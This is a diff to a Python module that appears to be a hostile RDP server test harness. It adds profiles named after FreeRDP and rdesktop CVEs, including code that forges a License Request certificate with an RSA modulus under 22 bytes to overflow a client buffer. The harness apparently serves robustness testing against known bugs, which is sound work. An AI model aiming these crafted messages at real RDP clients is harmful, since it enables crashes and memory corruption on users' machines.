@@ -11,6 +11,8 @@ with sources); they are named after the CVE.
 A profile's ``mutate`` gets one licensing frame and the connection's seeded generator and
 returns the frames to send instead (none: the message is never sent; two: it is repeated).
 Everything random comes from that generator, so a profile and a seed give the same bytes.
+A profile whose bug sits before licensing also has a ``connect``, which gets the MCS Connect
+Response instead (`rdplic.hostile.connect`).
 """
 
 from __future__ import annotations
@@ -19,6 +21,12 @@ import dataclasses
 import random
 from collections.abc import Callable
 
+from rdplic.hostile.connect import (
+    ConnectMutate,
+    ber_length_lie,
+    chain_certificate_lie,
+    security_data_lie,
+)
 from rdplic.hostile.wire import (
     MSG_LICENSE_REQUEST,
     MSG_NEW_LICENSE,
@@ -28,6 +36,12 @@ from rdplic.hostile.wire import (
     Field,
     LicensingFrame,
     fields,
+)
+from rdplic.pdu.certificates import (
+    ProprietaryServerCertificate,
+    RsaPublicKeyBlob,
+    ServerCertificate,
+    encode_server_certificate,
 )
 
 __all__ = ["PROFILES", "Profile", "Session"]
@@ -59,6 +73,9 @@ class Profile:
     """"structure" or "cve"."""
     description: str
     mutate: Mutate
+    connect: ConnectMutate | None = None
+    """The lie in the MCS Connect Response (`rdplic.hostile.connect`), for the profiles of
+    bugs in what a client parses before licensing."""
 
 
 def _put16(message: bytes, at: int, value: int) -> bytes:
@@ -297,6 +314,37 @@ def _cve_2020_11099(frame: LicensingFrame, session: Session) -> list[bytes] | No
     return _one(frame, session, message, f"EncryptedLicenseInfo {blob.size}->{keep} bytes")
 
 
+def _cve_2020_13398(frame: LicensingFrame, session: Session) -> list[bytes] | None:
+    """FreeRDP crypto_rsa_common (GHSL-2020-102): the License Request's certificate a
+    proprietary one (MS-RDPBCGR 2.2.1.4.3.1.1) whose RSA modulus is shorter than 22 bytes,
+    so that the client's 48-byte premaster secret no longer fits the 2 * modulus + 4 bytes
+    FreeRDP allocated for it; every length true."""
+    found = _by(frame.message, "blob", "ServerCertificate")
+    if not found:
+        return None
+    blob = found[0]
+    rng = session.rng
+    size = rng.choice((8, 12, 16, 20))
+    modulus = bytearray(rng.randbytes(size))
+    modulus[0] |= 0x01  # odd, and its top bit set: a modulus of exactly 8 * size bits
+    modulus[-1] |= 0x80
+    key = RsaPublicKeyBlob(
+        bitlen=8 * size, datalen=size - 1, pub_exp=0x10001, modulus=bytes(modulus) + bytes(8)
+    )
+    certificate = encode_server_certificate(
+        ServerCertificate(ProprietaryServerCertificate(key, rng.randbytes(64) + bytes(8)))
+    )
+    start = blob.offset + 4
+    message = frame.message[:start] + certificate + frame.message[start + blob.size :]
+    message = _fix_size(_put16(message, blob.offset + 2, len(certificate)))
+    return _one(frame, session, message, f"ServerCertificate RSA modulus->{size} bytes")
+
+
+def _leave(frame: LicensingFrame, session: Session) -> list[bytes] | None:
+    """The licensing PDUs of a profile whose lie is in the connection sequence."""
+    return None
+
+
 _STRUCTURE = (
     Profile("size-larger", "structure", "wMsgSize larger than the message", _size_larger),
     Profile("size-smaller", "structure", "wMsgSize smaller than the message", _size_smaller),
@@ -354,6 +402,33 @@ _CVES = (
         "cve",
         "FreeRDP < 2.1.2: short New License Info",
         _only((MSG_NEW_LICENSE, MSG_UPGRADE_LICENSE), _cve_2020_11099),
+    ),
+    Profile(
+        "cve-2017-2837",
+        "cve",
+        "FreeRDP 2.0.0-beta1: SC_SECURITY serverRandomLen + serverCertLen wrap 2^32",
+        _leave,
+        security_data_lie,
+    ),
+    Profile(
+        "cve-2018-20175",
+        "cve",
+        "rdesktop <= 1.8.3: Connect-Response BER length of 2^31 or more",
+        _leave,
+        ber_length_lie,
+    ),
+    Profile(
+        "cve-2018-20176",
+        "cve",
+        "rdesktop <= 1.8.3: SC_SECURITY X.509 chain, a certificate length past the data",
+        _leave,
+        chain_certificate_lie,
+    ),
+    Profile(
+        "cve-2020-13398",
+        "cve",
+        "FreeRDP < 2.1.2: License Request certificate with an RSA modulus < 22 bytes",
+        _only((MSG_LICENSE_REQUEST,), _cve_2020_13398),
     ),
 )
 
